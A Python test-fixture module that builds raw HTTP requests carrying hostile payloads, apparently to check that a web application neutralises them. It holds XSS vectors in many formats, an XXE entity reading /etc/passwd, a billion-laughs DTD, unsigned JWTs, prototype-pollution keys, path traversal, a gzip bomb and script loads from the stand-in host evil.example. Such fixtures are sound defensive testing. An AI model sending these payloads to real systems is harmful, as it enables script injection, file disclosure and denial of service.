"""What might be sent by somebody who wishes ill to whoever looks at it: raw requests, by name.

Rule: whatever runs sets `pwned`, whatever loads goes to `evil.example`, and every target holds `TOKEN`, so that the
requests are found, and nothing else is.
"""

import base64
import gzip
import json
import zlib
from collections.abc import Sequence

TOKEN = b"hostile-4f1c"
RUN = b"pwned=1"
BIDI = "\u202egnp.exe\u2066\u200b\u200d\u2060\ufeff\u00ad\u061c\u2028\u2029\u180e\u115f\u3164\u2800\U000e0041".encode()
CONTROLS = bytes(byte for byte in range(1, 32) if byte not in b"\r\n") + b"\x7f\xc2\x80\xc2\x9b\x1b[2J\x1b]0;pwned\x07"
PILE = ("a" + "\u0301" * 60).encode()
TEMPLATES = b"{{7*7}}${7*7}#{7*7}<%=7*7%>{%raw%}{{constructor.constructor('pwned=1')()}}{{config}}@(1+2)[[${7*7}]]"
URLS = b"javascript:pwned=1 data:text/html,<script>pwned=1</script> //evil.example/x vbscript:pwned file:///etc/passwd"
# One text for each place in a page that somebody might wish to break out of. Without blanks, so that they fit a target.
MARKUP = [
    b"<script>pwned=1</script>",
    b"<img/src=x/onerror=pwned=1>",
    b"\"'><svg/onload=pwned=1>",
    b"'/autofocus/tabindex=1/onfocus='pwned=1",
    b"</a></td></tr></table></title></textarea></pre></style></script><script>pwned=1</script>",
    b"<iframe/srcdoc='<script>parent.pwned=1</script>'></iframe>",
    b"<base/href=//evil.example/><link/rel=stylesheet/href=//evil.example/x.css>",
    b"<meta/http-equiv=refresh/content=0;url=//evil.example/>",
    b"<form/id=desk/action=//evil.example><input/name=filter><button/form=filter-form/formaction=javascript:pwned=1>",
    b"<math><mtext><table><mglyph><style><!--</style><img/title='--&gt;&lt;img/src=1/onerror=pwned=1&gt;'>",
    b"<noscript><p/title='</noscript><img/src=x/onerror=pwned=1>'>",
    b"--><!--<!doctype/html>]]>&lt;b&gt;&#60;script&#62;&amp;lt;",
    b"<a/href=javascript:pwned=1/id=rows/name=cookie>x</a><object/data=//evil.example><embed/src=//evil.example>",
    b"<video/src=//evil.example/autoplay><style>*{background:url(//evil.example)}</style><link/rel=dns-prefetch>",
]
ALL_MARKUP = b"\n".join(MARKUP)


def request(
    target: bytes, headers: Sequence[tuple[bytes, bytes]] = (), body: bytes = b"", method: bytes = b""
) -> bytes:
    """As bytes; with TOKEN in its target."""
    mark = b"&" if b"?" in target else b"?"
    lines = [(b"Host", b"h"), *headers, (b"Content-Length", b"%d" % len(body)), (b"Connection", b"close")]
    head = b"".join(b"%s: %s\r\n" % line for line in lines)
    line = (method or (b"POST" if body else b"GET")) + b" " + target + mark + TOKEN
    return line + b" HTTP/1.1\r\n" + head + b"\r\n" + body


def body(type: bytes, content: bytes, *more: tuple[bytes, bytes]) -> bytes:
    return request(b"/body", [(b"Content-Type", type), *more], content)


def multipart(*parts: tuple[bytes, bytes, bytes]) -> bytes:
    """Of parts as (what stands behind form-data, Content-Type, content)."""
    made = b"".join(
        b"--b\r\nContent-Disposition: form-data; %s\r\nContent-Type: %s\r\nX-b: %s\r\n\r\n%s\r\n"
        % (said, type, MARKUP[0], content)
        for said, type, content in parts
    )
    return body(b"multipart/form-data; boundary=b", made + b"--b--\r\n")


def token(claims: object) -> bytes:
    """A JWT that says so."""
    head, told = (base64.urlsafe_b64encode(json.dumps(one).encode()).rstrip(b"=") for one in (HEAD, claims))
    return head + b"." + told + b".c2ln"


HEAD = {
    "alg": "none",
    "kid": "<script>pwned=1</script>",
    "jku": "http://evil.example/keys",
    "x5u": "javascript:pwned=1",
}
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="pwned=1">'
    b'<script>pwned=1</script><script xlink:href="//evil.example/x.js"/><image href="//evil.example/x.png"/>'
    b'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="pwned=1"/></body></foreignObject>'
    b'<a xlink:href="javascript:pwned=1"><text>click</text></a><animate onbegin="pwned=1" attributeName="x" dur="1s"/>'
    b'<use href="data:image/svg+xml,&lt;svg/&gt;#x"/><style>@import "//evil.example/x.css";</style></svg>'
)
HTML = (
    b'<!doctype html><html><head><base href="//evil.example/"><meta http-equiv="refresh" content="0;//evil.example">'
    b"<title>Gatebook</title></head><body onload=pwned=1>" + ALL_MARKUP + b"</body></html>"
)
DTD = (
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?><?php system("id") ?>'
    b'<!DOCTYPE lolz SYSTEM "http://evil.example/x.dtd" [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY f SYSTEM "file:///etc/passwd">]><lolz>&c;&f;</lolz>'
)
NO_DTD = (
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?><!DOCTYPE html PUBLIC "'
    b'<script>" "http://evil.example/x.dtd"><h:html xmlns:h="http://www.w3.org/1999/xhtml" h:onload="pwned=1">'
    b'<!--<script>pwned=1</script>--><h:script>pwned=1</h:script><x a="&lt;img src=x onerror=pwned=1&gt;">'
    b"&lt;script&gt;pwned=1&lt;/script&gt;</x><![CDATA[<script>pwned=1</script>]]><b>" + BIDI + b"</b></h:html>"
)
TREE = json.dumps(
    {
        "__proto__": {"pwned": 1},
        "constructor": {"prototype": {"pwned": 1}},
        **{one.decode(): one.decode() for one in MARKUP},
        "toString": "javascript:pwned=1",
        BIDI.decode(): BIDI.decode(),
        "\0\x1b[2J": CONTROLS.decode(),
        "template {{7*7}}": TEMPLATES.decode(),
        "url": "javascript:pwned=1//https://evil.example",
        '"\\": \\"': 'quote " and \\ and */*(NOT OR) -',
        "pile": PILE.decode(),
    },
    ensure_ascii=False,
).encode()
ODD_JSON = (
    b'{"a":1,"a":2,"\\ud800":"\\udfff\\u0000\\u202e","n":1e999999,"m":-0.0,"l":' + b"9" * 5000 + b',"":[],"e":{}}'
)
GIF = b"GIF89a/*\x01\x01\x80\x00\x00*/=1;pwned=1/*<script>pwned=1</script>*/"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x02\x00\x00\x00\x02\x08\x02" + bytes(7) + HTML
FORM = b"&".join(
    [b"__proto__=1&constructor=2", *(one.replace(b"&", b"%26") + b"=" + one for one in MARKUP), BIDI, CONTROLS]
)
NAMES = b'name="<script>pwned=1</script>"; filename="\xe2\x80\xaegnp.svg\\"><img src=x onerror=pwned=1>"'
PARTS = multipart(
    (NAMES, b"image/png", SVG),
    (b'name="__proto__"; filename="../../../etc/passwd"', b"text/html; charset=utf-7", HTML),
    (b"name=javascript:pwned=1; filename*=utf-8''%3Cscript%3Epwned=1%3C/script%3E", b"image/svg+xml", SVG),
    (b'name="gif"; filename="x.gif"', b"text/html", GIF),
    (b'name="json"', b"application/json", TREE),
    (b'name="xml"', b"application/xml", DTD),
)
JWT = token(
    {"sub": ALL_MARKUP.decode(), "exp": 1e308, "iat": -1, "nbf": "javascript:pwned=1", BIDI.decode(): "{{7*7}}"}
)
SMALL: dict[str, bytes] = {
    **{f"target {number}": request(b"/" + one + b"?" + one) for number, one in enumerate(MARKUP)},
    "target bidi": request(b"/" + BIDI + b"?" + PILE),
    "target latin": request(b"/\x80\x9b\xff\xc0\xaf%3Cscript%3E%2e%2e/" + TEMPLATES + b"#<script>pwned=1</script>"),
    "target absolute": request(b"http://evil.example/javascript:pwned=1/__proto__/constructor"),
    "target scheme": request(b"//evil.example/x"),
    "target climbs": request(b"/x/../_/requests/..;/?filter=<script>pwned=1</script>"),
    "method": request(b"/method", method=b"__PROTO__-SCRIPT_" + b"LONG" * 500),
    "names": request(b"/names", [(one.replace(b":", b""), one) for one in MARKUP]),
    "names of scripts": request(b"/names", [(one, one) for one in [b"__proto__", b"constructor", b"toString", b"id"]]),
    "values": request(b"/values", [(b"A%d" % n, one) for n, one in enumerate([BIDI, CONTROLS, PILE, TEMPLATES, URLS])]),
    "referer": request(b"/x", [(b"Referer", b"javascript:pwned=1"), (b"Location", b"//evil.example")]),
    "client": request(b"/x", [(b"X-Forwarded-For", MARKUP[0]), (b"X-Forwarded-Host", b"evil.example")]),
    "jwt": request(b"/?token=" + JWT, [(b"Authorization", b"Bearer " + JWT), (MARKUP[1], JWT)]),
    "html": body(b"text/html", HTML),
    "html as said by nobody": body(b'text/html; charset="' + MARKUP[2], HTML, (b"Content-Encoding", MARKUP[0])),
    "utf-7": body(b"text/html; charset=utf-7", b"+ADw-script+AD4-pwned=1+ADw-/script+AD4-"),
    "utf-16": body(b"text/html; charset=utf-16", b"\xff\xfe" + HTML.decode("latin-1").encode("utf-16-le")),
    "svg": body(b"image/svg+xml", SVG),
    "svg as a picture": body(b"image/png", SVG),
    "svg packed": body(b"image/svg+xml", gzip.compress(SVG), (b"Content-Encoding", b"gzip")),
    "html packed": body(b"text/html", zlib.compress(HTML), (b"Content-Encoding", b"deflate")),
    "dtd": body(b"text/xml", DTD),
    "xml": body(b"application/xhtml+xml", NO_DTD),
    "json": body(b"application/json", TREE),
    "odd json": body(b"application/json", ODD_JSON),
    "json lines": body(b"application/x-ndjson", TREE + b"\n" + ODD_JSON + b"\n" + TREE),
    "json as a script": body(b"text/javascript", b")]}'\n" + TREE + b"\npwned=1"),
    "form": body(b"application/x-www-form-urlencoded", FORM),
    "parts": PARTS,
    "gif and script": body(b"text/html", GIF),
    "png and html": body(b"text/html", PNG),
    "pdf": body(b"application/pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>" + HTML),
    "text": body(b"text/plain", b"\n".join([BIDI, CONTROLS, PILE, TEMPLATES, URLS, ALL_MARKUP, b"\0\xff\xfe"])),
    "no type": body(b"", HTML + BIDI),
}  # fmt: skip
MIB = 1024 * 1024
LARGE: dict[str, bytes] = {
    "64 KiB name": request(b"/long", [(b"X-" + b"<script>" * 8191, b"1"), (BIDI * 500, b"<b>" * 20_000)]),
    "64 KiB target": request(b"/" + b"<script>" * 8000 + BIDI * 100),
    "2,000 headers": request(b"/many", [(b"X-<b>-%d" % n, MARKUP[n % len(MARKUP)]) for n in range(2000)]),
    "10 MiB of HTML": body(b"text/html", (HTML * (10 * MIB // len(HTML) + 1))[: 10 * MIB]),
    "10 MiB of JSON": body(b"application/json", (b"[" + (TREE + b",") * (10 * MIB // len(TREE)))[: 10 * MIB]),
    "11 MiB": body(b"image/svg+xml", SVG + b" " * 11 * MIB),
    "deep JSON": body(b"application/json", b'{"<b>":[' * 50_000 + b"1" + b"]}" * 50_000),
    "deep XML": body(b"application/xml", b"<b>" * 20_000 + b"</b>" * 20_000),
    "many parts": multipart(*[(NAMES, b"text/html", MARKUP[0])] * 2000),
    "many fields": body(b"application/x-www-form-urlencoded", b"&".join([b"<b>=" + MARKUP[0]] * 20_000)),
    "a bomb": body(b"text/html", gzip.compress(MARKUP[0] * (MIB // 2)), (b"Content-Encoding", b"gzip")),
}  # fmt: skip
